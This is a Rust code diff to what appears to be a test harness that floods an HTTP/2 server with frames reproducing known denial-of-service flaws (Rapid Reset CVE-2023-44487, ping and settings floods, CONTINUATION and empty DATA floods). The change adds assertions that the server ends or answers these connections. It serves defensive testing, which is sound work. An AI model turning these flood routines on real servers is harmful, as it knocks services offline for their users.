@@ -23,7 +23,9 @@ const STREAMS: u32 = 256;
 const WINDOW: u32 = 1 << 20;
 
 /// Floods over some connections at a time, each of which starts again when the server ends it
-async fn floods(target: Target, first: Vec<u8>, bytes: Vec<u8>) -> (usize, u64) {
+///
+/// The numbers of connections and of floods, and of bytes that the server answered.
+async fn floods(target: Target, first: Vec<u8>, bytes: Vec<u8>) -> (usize, u64, usize) {
     floods_of(target, first, move |_| bytes.clone()).await
 }
 
@@ -32,13 +34,13 @@ async fn floods_of(
     target: Target,
     first: Vec<u8>,
     bytes: impl Fn(u32) -> Vec<u8> + Clone + 'static,
-) -> (usize, u64) {
+) -> (usize, u64, usize) {
     let end = Instant::now() + target.duration;
     let mut loops = JoinSet::new();
     for _ in 0..FLOODERS {
         let (first, bytes) = (first.clone(), bytes.clone());
         loops.spawn_local(async move {
-            let (mut connections, mut count) = (0, 0);
+            let (mut connections, mut count, mut answered) = (0, 0, 0);
             while Instant::now() < end {
                 let mut stream =
                     TcpStream::connect(target.address).await.expect("the server accepts");
@@ -47,24 +49,31 @@ async fn floods_of(
                     continue;
                 }
                 let mut number = 0;
-                while send(&mut stream, &bytes(number), end).await {
+                while send(&mut stream, &bytes(number), end, &mut answered).await {
                     number += 1;
                 }
                 count += u64::from(number);
             }
-            (connections, count)
+            (connections, count, answered)
         });
     }
     let ended = loops.join_all().await;
-    let (connections, count) =
-        ended.into_iter().fold((0, 0), |sum, it| (sum.0 + it.0, sum.1 + it.1));
-    assert!(count > 0, "nothing was sent");
-    (connections, count)
+    let sum = ended
+        .into_iter()
+        .fold((0, 0, 0), |sum: (usize, u64, usize), it| (sum.0 + it.0, sum.1 + it.1, sum.2 + it.2));
+    assert!(sum.1 > 0, "nothing was sent");
+    sum
 }
 
 /// The server ends what no client needs, so there were more connections than at a time
 fn assert_ended(connections: usize) {
     assert!(connections > FLOODERS, "none of {connections} connections was ended");
+}
+
+/// The server answers a client that reads, and does not end its connection
+fn assert_answered(connections: usize, answered: usize) {
+    assert_eq!(connections, FLOODERS, "connections were ended");
+    assert!(answered > 0, "nothing was answered");
 }
 
 /// CVE-2023-44487
@@ -79,7 +88,7 @@ pub(crate) async fn rapid_reset(target: Target) -> String {
         }
         bytes
     };
-    let (connections, count) = floods_of(target, start(WINDOW), request).await;
+    let (connections, count, _) = floods_of(target, start(WINDOW), request).await;
     assert_ended(connections);
     format!("{} requests on {connections} connections", 100 * count)
 }
@@ -87,14 +96,16 @@ pub(crate) async fn rapid_reset(target: Target) -> String {
 /// CVE-2019-9512
 pub(crate) async fn pings(target: Target) -> String {
     let ping = frame(PING, 0, 0, b"abcdefgh").repeat(100);
-    let (connections, count) = floods(target, start(WINDOW), ping).await;
+    let (connections, count, answered) = floods(target, start(WINDOW), ping).await;
+    assert_answered(connections, answered);
     format!("{} pings on {connections} connections", 100 * count)
 }
 
 /// CVE-2019-9515
 pub(crate) async fn settings(target: Target) -> String {
     let change = setting(INITIAL_WINDOW_SIZE, WINDOW).repeat(100);
-    let (connections, count) = floods(target, start(WINDOW), change).await;
+    let (connections, count, answered) = floods(target, start(WINDOW), change).await;
+    assert_answered(connections, answered);
     format!("{} settings on {connections} connections", 100 * count)
 }
 
@@ -114,7 +125,7 @@ pub(crate) async fn short_connections(target: Target) -> String {
 pub(crate) async fn continuations(target: Target) -> String {
     let first = [start(WINDOW), frame(HEADERS, END_STREAM, 1, &head("GET", "/health"))].concat();
     let more = frame(CONTINUATION, 0, 1, &header("x", &"x".repeat(100)).repeat(100));
-    let (connections, count) = floods(target, first, more).await;
+    let (connections, count, _) = floods(target, first, more).await;
     assert_ended(connections);
     format!("{count} frames of 10 KiB on {connections} connections")
 }
@@ -124,7 +135,8 @@ pub(crate) async fn empty_data(target: Target) -> String {
     let mut head = head("POST", "/");
     head.extend(header("content-type", "application/json"));
     let first = [start(WINDOW), frame(HEADERS, END_HEADERS, 1, &head)].concat();
-    let (connections, count) = floods(target, first, frame(DATA, 0, 1, b"").repeat(100)).await;
+    let (connections, count, _) = floods(target, first, frame(DATA, 0, 1, b"").repeat(100)).await;
+    assert_ended(connections);
     format!("{} frames on {connections} connections", 100 * count)
 }
 
